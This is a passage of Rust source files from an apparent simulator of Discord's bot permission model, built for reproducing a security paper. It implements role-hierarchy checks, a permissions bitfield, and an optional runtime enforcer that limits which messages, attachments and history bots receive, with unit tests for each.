    fn pins_require_manage_messages() {
        let w = world();
        let id = w
            .platform
            .send_message(w.alice, w.channel, "important", vec![])
            .unwrap();
        let err = w.platform.pin_message(w.alice, w.channel, id).unwrap_err();
        assert!(matches!(err, PlatformError::MissingPermission { .. }));
        w.platform.pin_message(w.owner, w.channel, id).unwrap();
        // Idempotent.
        w.platform.pin_message(w.owner, w.channel, id).unwrap();
        assert_eq!(w.platform.pins(w.alice, w.channel).unwrap(), vec![id]);
    }

    #[test]
    fn enforcer_filters_unaddressed_messages() {
        let w = world();
        let (bot, rx) = install_test_bot(&w, Permissions::SEND_MESSAGES);
        let _ = rx.try_recv(); // GuildCreate
        w.platform
            .set_runtime_policy(crate::enforcer::RuntimePolicy::Enforced);
        assert_eq!(
            w.platform.runtime_policy(),
            crate::enforcer::RuntimePolicy::Enforced
        );

        // Ordinary chatter is withheld from the bot…
        w.platform
            .send_message(w.alice, w.channel, "gossip about the weekend", vec![])
            .unwrap();
        assert!(
            rx.try_recv().is_err(),
            "unaddressed message must not reach the bot"
        );
        // …but commands still arrive.
        w.platform
            .send_message(w.alice, w.channel, "!ping", vec![])
            .unwrap();
        match rx.try_recv().unwrap() {
            GatewayEvent::MessageCreate { message, .. } => assert_eq!(message.content, "!ping"),
            other => panic!("unexpected {other:?}"),
        }
        let _ = bot;
    }

    #[test]
    fn least_privilege_delivery_filters_by_mention_and_registered_commands() {
        let w = world();
        let (bot, rx) = install_test_bot(&w, Permissions::SEND_MESSAGES);
        let _ = rx.try_recv(); // GuildCreate
        w.platform.register_bot_commands(bot, vec!["!kick".into()]);
        w.platform.set_least_privilege_delivery(true);
        assert!(w.platform.least_privilege_delivery());
        assert_eq!(w.platform.registered_commands(bot), vec!["!kick"]);

        // Unaddressed chatter and other bots' commands are withheld…
        w.platform
            .send_message(w.alice, w.channel, "gossip about the weekend", vec![])
            .unwrap();
        w.platform
            .send_message(w.alice, w.channel, "!play a song", vec![])
            .unwrap();
        assert!(rx.try_recv().is_err());
        // …the bot's own command and mentions arrive, attachments intact.
        let att = Attachment::new("doc.pdf", "application/pdf", vec![9u8]);
        w.platform
            .send_message(w.alice, w.channel, "!kick @bob", vec![att])
            .unwrap();
        match rx.try_recv().unwrap() {
            GatewayEvent::MessageCreate { message, .. } => {
                assert_eq!(message.content, "!kick @bob");
                assert_eq!(message.attachments.len(), 1, "attachments untouched");
            }
            other => panic!("unexpected {other:?}"),
        }
        // History reads stay legal — the toggle mediates fan-out only.
        assert!(w.platform.read_history(bot, w.channel).is_ok());
        // Toggle off restores full delivery.
        w.platform.set_least_privilege_delivery(false);
        w.platform
            .send_message(w.alice, w.channel, "plain chatter again", vec![])
            .unwrap();
        assert!(rx.try_recv().is_ok());
    }

    #[test]
    fn enforcer_strips_attachments_from_delivered_events() {
        let w = world();
        let (_bot, rx) = install_test_bot(&w, Permissions::SEND_MESSAGES);
        let _ = rx.try_recv();
        w.platform
            .set_runtime_policy(crate::enforcer::RuntimePolicy::Enforced);
        let att = Attachment::new("secret.pdf", "application/pdf", vec![1u8, 2, 3]);
        w.platform
            .send_message(w.alice, w.channel, "!scan this", vec![att])
            .unwrap();
        match rx.try_recv().unwrap() {
            GatewayEvent::MessageCreate { message, .. } => {
                assert!(
                    message.attachments.is_empty(),
                    "attachments must be stripped"
                );
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn enforcer_blocks_bot_history_reads_but_not_humans() {
        let w = world();
        let (bot, _rx) = install_test_bot(&w, Permissions::ADMINISTRATOR);
        w.platform
            .send_message(w.alice, w.channel, "history entry", vec![])
            .unwrap();
        // Unenforced: even a non-admin human and the admin bot may read.
        assert!(w.platform.read_history(bot, w.channel).is_ok());
        w.platform
            .set_runtime_policy(crate::enforcer::RuntimePolicy::Enforced);
        // Enforced: the bot is cut off despite being administrator…
        let err = w.platform.read_history(bot, w.channel).unwrap_err();
        assert!(matches!(err, PlatformError::MissingPermission { .. }));
        // …while humans are untouched.
        assert!(w.platform.read_history(w.alice, w.channel).is_ok());
    }

    #[test]
    fn effective_permissions_wrapper() {
        let w = world();
        let p = w
            .platform
            .effective_permissions(w.alice, w.channel)
            .unwrap();
        assert!(p.contains(Permissions::SEND_MESSAGES));
        let (bot, _rx) = install_test_bot(&w, Permissions::ADMINISTRATOR);
        assert_eq!(
            w.platform.effective_permissions(bot, w.channel).unwrap(),
            Permissions::ALL_KNOWN
        );
    }
}
