//! The five role-hierarchy rules, as enumerated in §4.1:
//!
//! 1. "A chatbot can grant roles to other users of a lower position than its
//!    own highest role."
//! 2. "A chatbot can edit roles of a lower position than its highest role,
//!    but it can only grant permissions it has to those roles."
//! 3. "A chatbot can only sort roles lower than its highest role."
//! 4. "A chatbot can only kick, ban, and edit nicknames for users whose
//!    highest role is lower than the chatbot's highest role."
//! 5. "Otherwise, permissions do not obey the role hierarchy."
//!
//! The rules are stated for chatbots but apply to any actor; the platform
//! applies them uniformly. The guild owner is exempt.

use crate::error::PlatformError;
use crate::guild::Guild;
use crate::permissions::Permissions;
use crate::role::RoleId;
use crate::user::UserId;

/// Rule 1: may `actor` grant `role` to someone?
pub fn can_grant_role(guild: &Guild, actor: UserId, role: RoleId) -> Result<(), PlatformError> {
    if actor == guild.owner {
        return Ok(());
    }
    let actor_top = guild.highest_role_position(actor)?;
    let target = guild.role(role)?;
    if target.position < actor_top {
        Ok(())
    } else {
        Err(PlatformError::HierarchyViolation {
            rule: "can only grant roles of a lower position than own highest role",
        })
    }
}

/// Rule 2: may `actor` edit `role` to carry `new_permissions`?
///
/// Both halves are checked: the role must sit below the actor's highest
/// role, and the actor can only put permissions *it has* onto the role.
pub fn can_edit_role(
    guild: &Guild,
    actor: UserId,
    role: RoleId,
    new_permissions: Permissions,
) -> Result<(), PlatformError> {
    if actor == guild.owner {
        return Ok(());
    }
    let actor_top = guild.highest_role_position(actor)?;
    let target = guild.role(role)?;
    if target.position >= actor_top {
        return Err(PlatformError::HierarchyViolation {
            rule: "can only edit roles of a lower position than own highest role",
        });
    }
    let actor_perms = crate::resolve::guild_permissions(guild, actor)?;
    let granting = new_permissions.difference(target.permissions);
    if !actor_perms.contains(granting) {
        return Err(PlatformError::HierarchyViolation {
            rule: "can only grant permissions it has to edited roles",
        });
    }
    Ok(())
}

/// Rule 3: may `actor` move `role` to `new_position`?
pub fn can_sort_role(
    guild: &Guild,
    actor: UserId,
    role: RoleId,
    new_position: u32,
) -> Result<(), PlatformError> {
    if actor == guild.owner {
        return Ok(());
    }
    let actor_top = guild.highest_role_position(actor)?;
    let target = guild.role(role)?;
    if target.position >= actor_top || new_position >= actor_top {
        return Err(PlatformError::HierarchyViolation {
            rule: "can only sort roles lower than own highest role",
        });
    }
    Ok(())
}

/// Rule 4: may `actor` kick/ban/edit-nickname `subject`?
pub fn can_moderate_member(
    guild: &Guild,
    actor: UserId,
    subject: UserId,
) -> Result<(), PlatformError> {
    if actor == guild.owner {
        return Ok(());
    }
    if subject == guild.owner {
        return Err(PlatformError::HierarchyViolation {
            rule: "cannot moderate the guild owner",
        });
    }
    let actor_top = guild.highest_role_position(actor)?;
    let subject_top = guild.highest_role_position(subject)?;
    if subject_top < actor_top {
        Ok(())
    } else {
        Err(PlatformError::HierarchyViolation {
            rule: "can only moderate users whose highest role is lower than own highest role",
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::guild::{GuildId, GuildVisibility, Member};
    use crate::role::Role;
    use crate::snowflake::Snowflake;

    struct Fixture {
        guild: Guild,
        bot: UserId,
        alice: UserId,
        low: RoleId,
        mid: RoleId,
        high: RoleId,
    }

    /// bot holds `mid` (pos 5); alice holds nothing; roles low(2) < mid(5) < high(8).
    fn fixture() -> Fixture {
        let owner = UserId(Snowflake(1));
        let bot = UserId(Snowflake(2));
        let alice = UserId(Snowflake(3));
        let everyone = RoleId(Snowflake(10));
        let low = RoleId(Snowflake(11));
        let mid = RoleId(Snowflake(12));
        let high = RoleId(Snowflake(13));
        let mut guild = Guild::new(
            GuildId(Snowflake(100)),
            "h",
            owner,
            everyone,
            GuildVisibility::Private,
        );
        for (rid, name, pos, perms) in [
            (low, "low", 2, Permissions::SEND_MESSAGES),
            (
                mid,
                "mid",
                5,
                Permissions::KICK_MEMBERS | Permissions::MANAGE_ROLES,
            ),
            (high, "high", 8, Permissions::BAN_MEMBERS),
        ] {
            guild.roles.insert(
                rid,
                Role {
                    id: rid,
                    name: name.into(),
                    position: pos,
                    permissions: perms,
                },
            );
        }
        guild.members.insert(
            bot,
            Member {
                user: bot,
                roles: vec![mid],
                nickname: None,
            },
        );
        guild.members.insert(
            alice,
            Member {
                user: alice,
                roles: vec![],
                nickname: None,
            },
        );
        Fixture {
            guild,
            bot,
            alice,
            low,
            mid,
            high,
        }
    }

    #[test]
    fn rule1_grant_only_lower() {
        let f = fixture();
        assert!(can_grant_role(&f.guild, f.bot, f.low).is_ok());
        assert!(
            can_grant_role(&f.guild, f.bot, f.mid).is_err(),
            "equal position denied"
        );
        assert!(can_grant_role(&f.guild, f.bot, f.high).is_err());
    }

    #[test]
    fn rule2_edit_only_lower_and_only_own_permissions() {
        let f = fixture();
        // Editing `low` to add KICK_MEMBERS (bot has it): ok.
        assert!(can_edit_role(
            &f.guild,
            f.bot,
            f.low,
            Permissions::SEND_MESSAGES | Permissions::KICK_MEMBERS
        )
        .is_ok());
        // Editing `low` to add BAN_MEMBERS (bot lacks it): hierarchy violation.
        assert!(can_edit_role(&f.guild, f.bot, f.low, Permissions::BAN_MEMBERS).is_err());
        // Editing `high` at all: violation.
        assert!(can_edit_role(&f.guild, f.bot, f.high, Permissions::NONE).is_err());
        // Keeping existing permissions the role already has is fine even if
        // the bot lacks them (it is not *granting* anything new).
        assert!(can_edit_role(&f.guild, f.bot, f.low, Permissions::SEND_MESSAGES).is_ok());
    }

    #[test]
    fn rule3_sort_only_below_own_top() {
        let f = fixture();
        assert!(can_sort_role(&f.guild, f.bot, f.low, 3).is_ok());
        assert!(
            can_sort_role(&f.guild, f.bot, f.low, 5).is_err(),
            "cannot sort to own level"
        );
        assert!(
            can_sort_role(&f.guild, f.bot, f.low, 7).is_err(),
            "cannot sort above own level"
        );
        assert!(
            can_sort_role(&f.guild, f.bot, f.high, 1).is_err(),
            "cannot touch higher role"
        );
    }

    #[test]
    fn rule4_moderate_only_lower_users() {
        let mut f = fixture();
        // alice (pos 0) < bot (pos 5): ok.
        assert!(can_moderate_member(&f.guild, f.bot, f.alice).is_ok());
        // Give alice `high` → she outranks the bot.
        f.guild.member_mut(f.alice).unwrap().roles.push(f.high);
        assert!(can_moderate_member(&f.guild, f.bot, f.alice).is_err());
        // Equal rank is also denied.
        f.guild.member_mut(f.alice).unwrap().roles = vec![f.mid];
        assert!(can_moderate_member(&f.guild, f.bot, f.alice).is_err());
    }

    #[test]
    fn owner_is_exempt_and_protected() {
        let f = fixture();
        let owner = f.guild.owner;
        assert!(can_grant_role(&f.guild, owner, f.high).is_ok());
        assert!(can_edit_role(&f.guild, owner, f.high, Permissions::ALL_KNOWN).is_ok());
        assert!(can_sort_role(&f.guild, owner, f.high, 100).is_ok());
        assert!(can_moderate_member(&f.guild, owner, f.bot).is_ok());
        // Nobody moderates the owner.
        assert!(can_moderate_member(&f.guild, f.bot, owner).is_err());
    }
}
