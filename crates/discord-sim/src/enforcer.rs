//! The runtime policy enforcer — the Slack/MS-Teams model.
//!
//! §2/§6: messaging platforms "use a two-level access control system
//! consisting of the OAuth protocol and a runtime policy enforcer", but the
//! paper shows "Discord does not implement a runtime enforcer\[,\] delegating
//! trust on third party developers, which widens the attack surface". Chen
//! et al. \[13\] analyze the enforcer-ful platforms.
//!
//! This module implements that *missing* second level as an optional mode,
//! so the reproduction can quantify what the enforcer buys: with it on, a
//! chatbot's backend only receives content explicitly addressed to it and
//! cannot bulk-read history — the behaviours the honeypot catches become
//! structurally impossible rather than merely detectable.

use crate::message::Message;
use serde::{Deserialize, Serialize};

/// Enforcement policy applied to bot accounts at runtime.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, Default)]
pub enum RuntimePolicy {
    /// Discord's model: no runtime mediation. Bots see every message in
    /// channels they can view and may read history subject only to their
    /// (self-requested) permissions.
    #[default]
    Unenforced,
    /// The Slack/Teams-style enforcer: a bot receives a message event only
    /// when the message *addresses* it (command prefix or @-mention), its
    /// events are stripped of attachments, and bot-initiated history reads
    /// are denied at the gateway boundary.
    Enforced,
}

impl RuntimePolicy {
    /// Should this message event be delivered to a bot under the policy?
    ///
    /// `bot_name_slug` is the lowercase bot account name used for mention
    /// matching (`@modbot …`).
    pub fn delivers_message(self, message: &Message, bot_name_slug: &str) -> bool {
        match self {
            RuntimePolicy::Unenforced => true,
            RuntimePolicy::Enforced => {
                addressed_by_prefix(&message.content) || mentions(&message.content, bot_name_slug)
            }
        }
    }

    /// Whether attachments travel with delivered events.
    pub fn delivers_attachments(self) -> bool {
        matches!(self, RuntimePolicy::Unenforced)
    }

    /// Whether a bot account may call the history API at all.
    pub fn allows_bot_history_read(self) -> bool {
        matches!(self, RuntimePolicy::Unenforced)
    }

    /// Sanitize an event message for delivery to a bot.
    pub fn sanitize(self, mut message: Message) -> Message {
        if !self.delivers_attachments() {
            message.attachments.clear();
        }
        message
    }

    /// The enforcer never mediates *human* accounts — only apps.
    pub fn applies_to(self, is_bot: bool) -> bool {
        is_bot && self == RuntimePolicy::Enforced
    }

    /// Human-readable label for logs and reports.
    pub fn describe(self) -> &'static str {
        match self {
            RuntimePolicy::Unenforced => "unenforced (Discord model)",
            RuntimePolicy::Enforced => "runtime-enforced (Slack/Teams model)",
        }
    }
}

/// Conventional command prefixes in the ecosystem.
const PREFIXES: &[char] = &['!', '?', '$', '-'];

fn addressed_by_prefix(content: &str) -> bool {
    let Some(first) = content.chars().next() else {
        return false;
    };
    if !PREFIXES.contains(&first) {
        return false;
    }
    // `!info` yes, `! spaced` / bare `!` no — same rule as Message::command.
    content[first.len_utf8()..]
        .chars()
        .next()
        .map(|c| !c.is_whitespace())
        .unwrap_or(false)
}

/// The "Bots can Snoop" per-message least-privilege delivery check: a bot
/// receives a message event only when the message @-mentions it or its
/// first token matches one of the bot's *registered* commands. Unlike
/// [`RuntimePolicy::Enforced`] this is per-bot — `!kick` reaches the bot
/// that registered `!kick` and nobody else — and it mediates delivery only:
/// history reads and attachments on delivered events stay untouched, so the
/// mitigation can be measured in isolation.
pub fn least_privilege_delivers(
    message: &Message,
    bot_name_slug: &str,
    commands: &[String],
) -> bool {
    if mentions(&message.content, bot_name_slug) {
        return true;
    }
    let Some(first) = message.content.split_whitespace().next() else {
        return false;
    };
    commands.iter().any(|c| c.eq_ignore_ascii_case(first))
}

fn mentions(content: &str, bot_name_slug: &str) -> bool {
    let lower = content.to_ascii_lowercase();
    lower.split_whitespace().any(|w| {
        w.trim_start_matches('@')
            .trim_end_matches(|c: char| !c.is_ascii_alphanumeric())
            == bot_name_slug
            && w.starts_with('@')
    })
}

/// Platform presets, per the paper's comparative framing (§2, §6): all the
/// major messaging platforms share the two-level OAuth + runtime-enforcer
/// architecture; Discord is the outlier that ships without the second
/// level.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum PlatformProfile {
    /// Discord: OAuth consent, no runtime enforcement, no official
    /// marketplace (bots found on third-party listings).
    Discord,
    /// Slack: OAuth + runtime policy enforcer, curated app directory.
    Slack,
    /// Microsoft Teams: OAuth + runtime enforcer, admin-gated store.
    MsTeams,
    /// Telegram: bot API with server-side scoping of what bots receive
    /// ("privacy mode" ≈ enforced delivery).
    Telegram,
}

impl PlatformProfile {
    /// The runtime policy this platform applies to third-party bots.
    pub fn runtime_policy(self) -> RuntimePolicy {
        match self {
            PlatformProfile::Discord => RuntimePolicy::Unenforced,
            PlatformProfile::Slack | PlatformProfile::MsTeams | PlatformProfile::Telegram => {
                RuntimePolicy::Enforced
            }
        }
    }

    /// Whether an official, vetted marketplace exists (Discord's bots live
    /// on third-party listings like top.gg — §4.1).
    pub fn has_official_marketplace(self) -> bool {
        !matches!(self, PlatformProfile::Discord)
    }

    /// All modeled platforms.
    pub const ALL: [PlatformProfile; 4] = [
        PlatformProfile::Discord,
        PlatformProfile::Slack,
        PlatformProfile::MsTeams,
        PlatformProfile::Telegram,
    ];
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::channel::ChannelId;
    use crate::message::MessageId;
    use crate::snowflake::Snowflake;
    use crate::user::UserId;
    use netsim::clock::SimInstant;

    fn msg(content: &str, n_attachments: usize) -> Message {
        Message {
            id: MessageId(Snowflake(1)),
            channel: ChannelId(Snowflake(2)),
            author: UserId(Snowflake(3)),
            content: content.into(),
            attachments: (0..n_attachments)
                .map(|i| crate::message::Attachment::new(&format!("f{i}"), "x", vec![0u8]))
                .collect(),
            at: SimInstant::EPOCH,
        }
    }

    #[test]
    fn unenforced_delivers_everything() {
        let p = RuntimePolicy::Unenforced;
        assert!(p.delivers_message(&msg("ordinary gossip", 0), "modbot"));
        assert!(p.delivers_attachments());
        assert!(p.allows_bot_history_read());
        assert_eq!(p.sanitize(msg("x", 2)).attachments.len(), 2);
    }

    #[test]
    fn enforced_delivers_only_addressed_messages() {
        let p = RuntimePolicy::Enforced;
        assert!(p.delivers_message(&msg("!kick @bob", 0), "modbot"));
        assert!(p.delivers_message(&msg("?help", 0), "modbot"));
        assert!(p.delivers_message(&msg("hey @modbot do the thing", 0), "modbot"));
        assert!(p.delivers_message(&msg("@ModBot, ping", 0), "modbot"));
        assert!(!p.delivers_message(&msg("ordinary gossip", 0), "modbot"));
        assert!(!p.delivers_message(&msg("see https://secret.doc/x", 0), "modbot"));
        assert!(!p.delivers_message(&msg("! spaced is not a command", 0), "modbot"));
        assert!(
            !p.delivers_message(&msg("email modbot@example.com", 0), "modbot"),
            "plain word, no @-prefix"
        );
    }

    #[test]
    fn enforced_strips_attachments_and_blocks_history() {
        let p = RuntimePolicy::Enforced;
        assert!(!p.delivers_attachments());
        assert!(!p.allows_bot_history_read());
        assert!(p.sanitize(msg("!open", 3)).attachments.is_empty());
    }

    #[test]
    fn least_privilege_matches_mentions_and_own_commands_only() {
        let cmds = vec!["!kick".to_string(), "!warn".to_string()];
        assert!(least_privilege_delivers(
            &msg("!kick @bob", 0),
            "modbot",
            &cmds
        ));
        assert!(least_privilege_delivers(
            &msg("!WARN spam", 0),
            "modbot",
            &cmds
        ));
        assert!(least_privilege_delivers(
            &msg("hey @modbot look", 0),
            "modbot",
            &cmds
        ));
        // Another bot's command prefix is not enough.
        assert!(!least_privilege_delivers(
            &msg("!play song", 0),
            "modbot",
            &cmds
        ));
        assert!(!least_privilege_delivers(
            &msg("ordinary gossip", 0),
            "modbot",
            &cmds
        ));
        assert!(!least_privilege_delivers(&msg("", 0), "modbot", &cmds));
        // No registered commands → mentions only.
        assert!(!least_privilege_delivers(&msg("!kick x", 0), "modbot", &[]));
        assert!(least_privilege_delivers(
            &msg("@modbot hi", 0),
            "modbot",
            &[]
        ));
    }

    #[test]
    fn platform_profiles_match_the_papers_framing() {
        // "Discord does not implement user-permission checks—a task
        // entrusted to third-party developers" (abstract); the rest enforce.
        assert_eq!(
            PlatformProfile::Discord.runtime_policy(),
            RuntimePolicy::Unenforced
        );
        for p in [
            PlatformProfile::Slack,
            PlatformProfile::MsTeams,
            PlatformProfile::Telegram,
        ] {
            assert_eq!(p.runtime_policy(), RuntimePolicy::Enforced, "{p:?}");
        }
        assert!(!PlatformProfile::Discord.has_official_marketplace());
        assert!(PlatformProfile::Slack.has_official_marketplace());
        assert_eq!(PlatformProfile::ALL.len(), 4);
    }

    #[test]
    fn enforcer_only_applies_to_bots() {
        assert!(RuntimePolicy::Enforced.applies_to(true));
        assert!(!RuntimePolicy::Enforced.applies_to(false));
        assert!(!RuntimePolicy::Unenforced.applies_to(true));
    }
}
