//! The permission bitfield.
//!
//! Bit assignments follow the Discord developer documentation the paper
//! cites (\[20\]). The 25 permissions enumerated in Figure 3 all appear here,
//! along with the rest of the 41-bit field, because invite links encode the
//! *whole* field as a decimal integer and the crawler must decode arbitrary
//! values it scrapes.

use serde::{Deserialize, Serialize};
use std::fmt;

/// A set of permissions, stored as the same bitfield Discord encodes in
/// OAuth invite URLs (`&permissions=8` → `ADMINISTRATOR`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, Deserialize)]
pub struct Permissions(pub u64);

macro_rules! permissions {
    ($(($const_name:ident, $bit:expr, $pretty:expr);)*) => {
        impl Permissions {
            $(
                #[doc = concat!("`", $pretty, "` (bit ", stringify!($bit), ").")]
                pub const $const_name: Permissions = Permissions(1 << $bit);
            )*

            /// All known permission bits.
            pub const ALL_KNOWN: Permissions = Permissions($((1u64 << $bit))|*);

            /// `(bit value, canonical lowercase name)` for every known bit,
            /// in bit order.
            pub const NAMES: &'static [(u64, &'static str)] = &[
                $((1 << $bit, $pretty),)*
            ];
        }
    };
}

permissions! {
    (CREATE_INSTANT_INVITE, 0, "create invite");
    (KICK_MEMBERS, 1, "kick members");
    (BAN_MEMBERS, 2, "ban members");
    (ADMINISTRATOR, 3, "administrator");
    (MANAGE_CHANNELS, 4, "manage channels");
    (MANAGE_GUILD, 5, "manage server");
    (ADD_REACTIONS, 6, "add reactions");
    (VIEW_AUDIT_LOG, 7, "view audit log");
    (PRIORITY_SPEAKER, 8, "priority speaker");
    (STREAM, 9, "video");
    (VIEW_CHANNEL, 10, "read messages");
    (SEND_MESSAGES, 11, "send messages");
    (SEND_TTS_MESSAGES, 12, "send tts messages");
    (MANAGE_MESSAGES, 13, "manage messages");
    (EMBED_LINKS, 14, "embed links");
    (ATTACH_FILES, 15, "attach files");
    (READ_MESSAGE_HISTORY, 16, "read message history");
    (MENTION_EVERYONE, 17, "mention @everyone");
    (USE_EXTERNAL_EMOJIS, 18, "use external emojis");
    (VIEW_GUILD_INSIGHTS, 19, "view guild insights");
    (CONNECT, 20, "connect");
    (SPEAK, 21, "speak");
    (MUTE_MEMBERS, 22, "mute members");
    (DEAFEN_MEMBERS, 23, "deafen members");
    (MOVE_MEMBERS, 24, "move members");
    (USE_VAD, 25, "use voice activity");
    (CHANGE_NICKNAME, 26, "change nickname");
    (MANAGE_NICKNAMES, 27, "manage nicknames");
    (MANAGE_ROLES, 28, "manage roles");
    (MANAGE_WEBHOOKS, 29, "manage webhooks");
    (MANAGE_EMOJIS_AND_STICKERS, 30, "manage emojis and stickers");
    (USE_APPLICATION_COMMANDS, 31, "use application commands");
    (REQUEST_TO_SPEAK, 32, "request to speak");
    (MANAGE_EVENTS, 33, "manage events");
    (MANAGE_THREADS, 34, "manage threads");
    (CREATE_PUBLIC_THREADS, 35, "create public threads");
    (CREATE_PRIVATE_THREADS, 36, "create private threads");
    (USE_EXTERNAL_STICKERS, 37, "use external stickers");
    (SEND_MESSAGES_IN_THREADS, 38, "send messages in threads");
    (USE_EMBEDDED_ACTIVITIES, 39, "use embedded activities");
    (MODERATE_MEMBERS, 40, "moderate members");
}

impl Permissions {
    /// No permissions.
    pub const NONE: Permissions = Permissions(0);

    /// Sensible defaults Discord grants `@everyone` in a fresh guild:
    /// view/send/read-history/reactions/connect/speak and a few more.
    pub fn everyone_defaults() -> Permissions {
        Permissions::VIEW_CHANNEL
            | Permissions::SEND_MESSAGES
            | Permissions::READ_MESSAGE_HISTORY
            | Permissions::ADD_REACTIONS
            | Permissions::EMBED_LINKS
            | Permissions::ATTACH_FILES
            | Permissions::CONNECT
            | Permissions::SPEAK
            | Permissions::USE_VAD
            | Permissions::CHANGE_NICKNAME
            | Permissions::CREATE_INSTANT_INVITE
    }

    /// Does this set contain *all* bits of `other`?
    ///
    /// Note this is a raw bit test — it deliberately does **not** apply the
    /// administrator short-circuit. Effective-permission logic (where admin
    /// implies everything) lives in [`crate::resolve`]; keeping the bitfield
    /// dumb lets the measurement code count what was *requested*, which is
    /// exactly what Figure 3 reports.
    pub fn contains(self, other: Permissions) -> bool {
        self.0 & other.0 == other.0
    }

    /// Intersection.
    pub fn intersects(self, other: Permissions) -> bool {
        self.0 & other.0 != 0
    }

    /// Set union.
    pub fn union(self, other: Permissions) -> Permissions {
        Permissions(self.0 | other.0)
    }

    /// Bits in `self` but not `other`.
    pub fn difference(self, other: Permissions) -> Permissions {
        Permissions(self.0 & !other.0)
    }

    /// Is the set empty?
    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// Number of set bits.
    pub fn count(self) -> u32 {
        self.0.count_ones()
    }

    /// Whether any bits fall outside the known field (invalid invite links
    /// in the wild often carry garbage values).
    pub fn has_unknown_bits(self) -> bool {
        self.0 & !Self::ALL_KNOWN.0 != 0
    }

    /// Canonical names of the known bits that are set, in bit order.
    pub fn names(self) -> Vec<&'static str> {
        Self::NAMES
            .iter()
            .filter(|(bit, _)| self.0 & bit != 0)
            .map(|(_, name)| *name)
            .collect()
    }

    /// Look up a single permission by its canonical name.
    pub fn by_name(name: &str) -> Option<Permissions> {
        Self::NAMES
            .iter()
            .find(|(_, n)| *n == name)
            .map(|(bit, _)| Permissions(*bit))
    }

    /// Decode the decimal bitfield used in invite URLs.
    pub fn from_invite_field(s: &str) -> Option<Permissions> {
        s.parse::<u64>().ok().map(Permissions)
    }

    /// Encode for an invite URL.
    pub fn to_invite_field(self) -> String {
        self.0.to_string()
    }

    /// Iterate over individual set bits as single-bit sets.
    pub fn iter(self) -> impl Iterator<Item = Permissions> {
        (0..64).filter_map(move |i| {
            let bit = 1u64 << i;
            (self.0 & bit != 0).then_some(Permissions(bit))
        })
    }
}

impl std::ops::BitOr for Permissions {
    type Output = Permissions;
    fn bitor(self, rhs: Permissions) -> Permissions {
        Permissions(self.0 | rhs.0)
    }
}

impl std::ops::BitOrAssign for Permissions {
    fn bitor_assign(&mut self, rhs: Permissions) {
        self.0 |= rhs.0;
    }
}

impl std::ops::BitAnd for Permissions {
    type Output = Permissions;
    fn bitand(self, rhs: Permissions) -> Permissions {
        Permissions(self.0 & rhs.0)
    }
}

impl std::ops::Not for Permissions {
    type Output = Permissions;
    fn not(self) -> Permissions {
        Permissions(!self.0)
    }
}

impl fmt::Display for Permissions {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.is_empty() {
            return f.write_str("(none)");
        }
        let names = self.names();
        if names.is_empty() {
            return write!(f, "(unknown bits: {:#x})", self.0);
        }
        write!(f, "{}", names.join(", "))?;
        if self.has_unknown_bits() {
            write!(f, " (+unknown bits)")?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn administrator_is_bit_three() {
        // The famous `permissions=8` invite link.
        assert_eq!(Permissions::ADMINISTRATOR.0, 8);
        assert_eq!(
            Permissions::from_invite_field("8"),
            Some(Permissions::ADMINISTRATOR)
        );
    }

    #[test]
    fn all_known_has_41_bits() {
        assert_eq!(Permissions::ALL_KNOWN.count(), 41);
        assert_eq!(Permissions::NAMES.len(), 41);
    }

    #[test]
    fn set_operations() {
        let a = Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL;
        assert!(a.contains(Permissions::SEND_MESSAGES));
        assert!(!a.contains(Permissions::BAN_MEMBERS));
        assert!(a.intersects(Permissions::VIEW_CHANNEL | Permissions::SPEAK));
        assert_eq!(
            a.difference(Permissions::VIEW_CHANNEL),
            Permissions::SEND_MESSAGES
        );
        assert_eq!(a.count(), 2);
        assert!(!a.is_empty());
        assert!(Permissions::NONE.is_empty());
    }

    #[test]
    fn contains_is_raw_no_admin_shortcircuit() {
        // Requested-permission accounting must not treat admin as implying
        // other bits — Figure 3 counts admin and send-messages separately.
        assert!(!Permissions::ADMINISTRATOR.contains(Permissions::SEND_MESSAGES));
    }

    #[test]
    fn names_round_trip() {
        for (bit, name) in Permissions::NAMES {
            let p = Permissions::by_name(name).unwrap();
            assert_eq!(p.0, *bit, "{name}");
        }
        assert!(Permissions::by_name("fly the server").is_none());
    }

    #[test]
    fn figure3_permissions_all_exist() {
        // Every permission listed in Figure 3 must resolve by name.
        for name in [
            "add reactions",
            "administrator",
            "attach files",
            "ban members",
            "change nickname",
            "connect",
            "create invite",
            "embed links",
            "kick members",
            "manage channels",
            "manage emojis and stickers",
            "manage messages",
            "manage nicknames",
            "manage roles",
            "manage server",
            "manage webhooks",
            "mention @everyone",
            "read message history",
            "read messages",
            "send messages",
            "send tts messages",
            "speak",
            "use external emojis",
            "use voice activity",
            "view audit log",
        ] {
            assert!(Permissions::by_name(name).is_some(), "missing {name}");
        }
    }

    #[test]
    fn invite_field_roundtrip() {
        let p = Permissions::ADMINISTRATOR | Permissions::KICK_MEMBERS | Permissions::SPEAK;
        let encoded = p.to_invite_field();
        assert_eq!(Permissions::from_invite_field(&encoded), Some(p));
        assert_eq!(Permissions::from_invite_field("not-a-number"), None);
    }

    #[test]
    fn unknown_bits_detected() {
        let garbage = Permissions(1 << 55);
        assert!(garbage.has_unknown_bits());
        assert!(!Permissions::ALL_KNOWN.has_unknown_bits());
        assert!(garbage.names().is_empty());
    }

    #[test]
    fn iter_yields_single_bits() {
        let p = Permissions::SEND_MESSAGES | Permissions::ADMINISTRATOR;
        let bits: Vec<Permissions> = p.iter().collect();
        assert_eq!(
            bits,
            vec![Permissions::ADMINISTRATOR, Permissions::SEND_MESSAGES]
        );
    }

    #[test]
    fn display_lists_names() {
        let p = Permissions::ADMINISTRATOR | Permissions::SEND_MESSAGES;
        let s = p.to_string();
        assert!(s.contains("administrator"));
        assert!(s.contains("send messages"));
        assert_eq!(Permissions::NONE.to_string(), "(none)");
    }

    #[test]
    fn everyone_defaults_are_benign() {
        let d = Permissions::everyone_defaults();
        assert!(d.contains(Permissions::SEND_MESSAGES));
